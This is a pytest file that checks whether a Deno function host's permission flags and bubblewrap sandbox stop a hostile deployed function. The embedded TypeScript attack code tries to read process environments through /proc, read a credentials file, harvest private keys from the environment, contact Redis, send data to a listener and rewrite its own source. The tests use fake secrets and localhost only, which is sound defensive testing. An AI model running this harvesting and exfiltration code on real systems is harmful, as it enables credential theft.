"""A deployed function is pull-request code: it must reach nothing but its own environment.

The attack of issue 11, as a function: read the host's environment through /proc, read the
credentials file, look for the worker's secrets in its own environment, talk to Redis (where
the installation token is cached), send what it found to a listener, rewrite its own source.

Two layers hold it, and each is tested on its own so that removing either fails a test:
- Deno's permission flags (deno_runtime.serve_command): the deployed function's every
  attempt is refused by Deno (`NotCapable`), and nothing secret comes back;
- the sandbox (deno_runtime.serve_policy, bubblewrap): the same attempts made with every
  Deno permission granted still find no other process, no credentials file, no worker
  secret and a read-only release.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from workers.drivers.function_host_process import FunctionHostProcess
from workers.drivers.functions import PostgresFunctionReleases
from workers.functions_host.deno_runtime import DENO, RELEASE, serve_policy
from workers.sandbox.bubblewrap import sandbox_from_env
from workers.sandbox.runner import hand_over, run_confined

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None,
                                reason="bubblewrap is not installed (.ci/test installs it)")

ANON_KEY = "anon-key-of-the-attacked-environment"
FAKE_PRIVATE_KEY = "fake-app-key worker-secret-4f2a"  # what the worker holds; no real key
FAKE_DATABASE_URL = "postgresql://deploybot:ledger-password-9c1e@127.0.0.1:5432/ledger"
CREDENTIALS = '{"app_id": 1, "private_key": "credentials-file-secret-77d0"}'
SECRETS = ("worker-secret-4f2a", "ledger-password-9c1e", "credentials-file-secret-77d0")

# Every attempt reports how it failed (or what it got): the test makes the function
# return its findings, as an attacker's function would send them out.
ATTACK_STEPS = """
async function attempt(run: () => Promise<unknown>) {
  try {
    return { ok: true, value: String(await run()).slice(0, 2000) };
  } catch (error) {
    return { ok: false, error: (error as Error).name, message: String(error).slice(0, 300) };
  }
}

async function attack(p: Record<string, string>) {
  return {
    host_environ: await attempt(() => Deno.readTextFile(`/proc/${p.host_pid}/environ`)),
    init_environ: await attempt(() => Deno.readTextFile("/proc/1/environ")),
    credentials: await attempt(() => Deno.readTextFile(p.credentials)),
    env_object: await attempt(async () => JSON.stringify(Deno.env.toObject())),
    env_private_key: await attempt(async () => Deno.env.get("GITHUB_PRIVATE_KEY")),
    env_database_url: await attempt(async () => Deno.env.get("DATABASE_URL")),
    redis: await attempt(async () => {
      const conn = await Deno.connect({ hostname: "127.0.0.1", port: 6379 });
      await conn.write(new TextEncoder().encode("PING\\r\\n"));
      const buf = new Uint8Array(64);
      const n = await conn.read(buf);
      conn.close();
      return new TextDecoder().decode(buf.subarray(0, n ?? 0));
    }),
    listener: await attempt(async () => {
      const conn = await Deno.connect({ hostname: "127.0.0.1", port: Number(p.listener) });
      await conn.write(new TextEncoder().encode("leak"));
      conn.close();
      return "sent";
    }),
    listener_fetch: await attempt(() => fetch(`http://127.0.0.1:${p.listener}/leak`)),
    own_source: await attempt(() => Deno.writeTextFile(p.source, "// pwned\\n")),
    run_program: await attempt(async () => (await new Deno.Command("id").output()).code),
  };
}
"""

ATTACK_FN = ATTACK_STEPS + """
Deno.serve(async (req: Request) => {
  const params = Object.fromEntries(new URL(req.url).searchParams);
  params.source = new URL(import.meta.url).pathname;
  return Response.json(await attack(params));
});
"""


@pytest.fixture
def worker_secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The worker's environment and data dir as an attacker hopes to find them."""
    monkeypatch.setenv("GITHUB_PRIVATE_KEY", FAKE_PRIVATE_KEY)
    monkeypatch.setenv("DATABASE_URL", FAKE_DATABASE_URL)
    data = tmp_path / "data"
    data.mkdir()
    credentials = data / "github-app.json"
    credentials.write_text(CREDENTIALS)
    credentials.chmod(0o600)
    return data


@pytest.fixture
async def listener() -> AsyncIterator[tuple[int, list[bytes]]]:
    """A TCP listener the attacker would send its findings to; records what arrives."""
    received: list[bytes] = []

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(4096) or b"(connected)")
        writer.close()

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server:
        yield port, received


def _refused(finding: dict[str, Any]) -> str | None:
    return None if finding["ok"] else str(finding["error"])


async def test_a_deployed_function_reaches_no_secret(
        shim_db: str, tmp_path: Path, worker_secrets: Path,
        listener: tuple[int, list[bytes]]) -> None:
    functions = tmp_path / "supabase" / "functions"
    (functions / "attack").mkdir(parents=True)
    (functions / "attack" / "index.ts").write_text(ATTACK_FN)
    releases = PostgresFunctionReleases(shim_db)
    release = await releases.publish(functions, "a" * 40)
    await releases.activate(release.id)
    port, received = listener
    host = FunctionHostProcess(shim_db, ANON_KEY, data_dir=worker_secrets)
    await host.start()
    try:
        async with httpx.AsyncClient(timeout=60) as client:
            response = await client.get(
                f"{host.url}/functions/v1/attack",
                params={"host_pid": str(host.pid), "listener": str(port),
                        "credentials": str(worker_secrets / "github-app.json")},
                headers={"Authorization": f"Bearer {ANON_KEY}"})
    finally:
        await host.stop()
    assert response.status_code == 200, response.text
    findings = response.json()

    for secret in SECRETS:
        assert secret not in response.text
    # The environment reads as on Supabase's edge runtime: a variable the function was not
    # given is unset, and the whole environment is the function's own SUPABASE_* values.
    env = {name: findings.pop(name) for name in
           ("env_object", "env_private_key", "env_database_url")}
    assert env["env_private_key"] == {"ok": True, "value": "undefined"}, env
    assert env["env_database_url"] == {"ok": True, "value": "undefined"}, env
    own = json.loads(env["env_object"]["value"])
    assert own and all(name.startswith("SUPABASE_") for name in own), own
    # Every other attempt is refused by Deno's permissions, before the sandbox matters.
    refusals = {name: _refused(f) for name, f in findings.items()}
    assert refusals == {name: "NotCapable" for name in findings}, findings
    assert received == []  # nothing reached the listener
    extracted = worker_secrets / "function-cache"
    sources = list(extracted.rglob("attack/index.ts"))
    assert sources and all(p.read_text() == ATTACK_FN for p in sources)


SANDBOX_PROBE = ATTACK_STEPS + """
const found = await attack(JSON.parse(Deno.args[0]));
console.log(JSON.stringify(found));
"""


async def test_the_sandbox_holds_even_with_every_deno_permission(
        tmp_path: Path, worker_secrets: Path) -> None:
    # A process of the worker's with secrets in its environment, as the host is.
    victim = await asyncio.create_subprocess_exec("sleep", "60", env={**os.environ})
    release = tmp_path / "release"
    (release / "attack").mkdir(parents=True)
    (release / "attack" / "index.ts").write_text("export {};\n")
    (release / "probe.ts").write_text(SANDBOX_PROBE)
    deno_dir, socket_dir = tmp_path / "deno", tmp_path / "socket"
    deno_dir.mkdir()
    socket_dir.mkdir()
    sandbox = sandbox_from_env()
    hand_over(socket_dir, sandbox)
    policy = serve_policy(release, deno_dir, socket_dir,
                          {"SUPABASE_ANON_KEY": ANON_KEY, "SUPABASE_DB_URL": "postgresql://x"})
    params = {"host_pid": str(victim.pid), "listener": "9",
              "credentials": str(worker_secrets / "github-app.json"),
              "source": f"{RELEASE}/attack/index.ts"}
    try:
        # -A: all of Deno's permissions, as if the flags had been forgotten.
        done = await run_confined([DENO, "run", "-A", f"{RELEASE}/probe.ts", json.dumps(params)],
                                  policy, timeout_s=60, sandbox=sandbox)
    finally:
        victim.kill()
        await victim.wait()
    lines = [line for line in done.output.splitlines() if line.startswith("{")]
    assert done.returncode == 0 and lines, done.output
    found = json.loads(lines[-1])
    for secret in SECRETS:
        assert secret not in done.output
    # No other process (its own pid namespace), no data dir, no credentials file.
    assert _refused(found["host_environ"]) == "NotFound", found["host_environ"]
    assert _refused(found["credentials"]) == "NotFound", found["credentials"]
    # Its environment is the policy's alone.
    env = json.loads(found["env_object"]["value"])
    assert "GITHUB_PRIVATE_KEY" not in env and "DATABASE_URL" not in env
    assert set(env) <= {*policy.env, "PATH", "PWD"}
    # The release is read-only, whoever asks.
    assert "Read-only file system" in found["own_source"]["message"], found["own_source"]
    assert (release / "attack" / "index.ts").read_text() == "export {};\n"
    # As root, the sandbox's own pid 1 (bwrap) is not the function's to read either.
    if os.geteuid() == 0:
        assert _refused(found["init_environ"]) == "PermissionDenied", found["init_environ"]
